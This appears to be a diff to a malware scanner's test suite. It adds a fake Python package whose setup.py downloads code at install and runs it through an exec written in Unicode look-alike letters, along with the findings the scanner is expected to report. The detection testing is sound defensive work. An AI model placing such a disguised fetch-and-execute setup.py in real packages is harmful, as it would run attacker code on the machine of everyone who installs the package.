@@ -267,6 +267,18 @@ core::ScanInput host_sent_by_postinstall() {
                   file("package/index.js", "module.exports = 1;\n")});
 }
 
+// A setup.py that runs what a fixed address serves, under an exec written in look-alike
+// letters (Python reads ℯ𝓍ℯ𝒸 as exec).
+core::ScanInput disguised_exec_of_a_download_at_install() {
+  return package(PackageKind::kPypi, "funtools", "funtools-1.0.0.tar.gz",
+                 {file("funtools-1.0.0/setup.py",
+                       "import urllib.request\n"
+                       "from setuptools import setup\n"
+                       "code = urllib.request.urlopen('http://127.0.0.1:9/p').read()\n"
+                       "\u212f\U0001D4CD\u212f\U0001D4B8(code)\n"
+                       "setup(name='funtools')\n")});
+}
+
 // What ordinary libraries do: a logger that names its host, a client that sends, a build
 // script that runs git — none of it together in code that runs at install or import.
 core::ScanInput ordinary_library() {
@@ -298,11 +310,16 @@ const std::string kExpected[] = {
     "signals malware_signal MALWARE_SIGNAL critical [signals-collected-and-sent-at-install-or-import] "
     "package/collect.js:3 collects host and sends (http), at install: os.hostname( (line 3); os.userInfo( (line 3); "
     "https.request( (line 4)\n",
+    "signals malware_signal MALWARE_SIGNAL critical [signals-disguised-name] funtools-1.0.0/setup.py:4 writes a name "
+    "in look-alike letters that Python reads as exec: \u212f\U0001D4CD\u212f\U0001D4B8 reads as exec\n"
+    "signals malware_signal MALWARE_SIGNAL critical [signals-fetched-code-executed] funtools-1.0.0/setup.py:4 runs "
+    "code the network sends it (exec/eval of a download): exec(code)\n",
     "",
 };
 
 std::vector<core::ScanInput> packages() {
-  return {reverse_shell_at_import(), miner_in_a_function(), host_sent_by_postinstall(), ordinary_library()};
+  return {reverse_shell_at_import(), miner_in_a_function(), host_sent_by_postinstall(),
+          disguised_exec_of_a_download_at_install(), ordinary_library()};
 }
 
 class SignalsReal : public ::testing::Test {
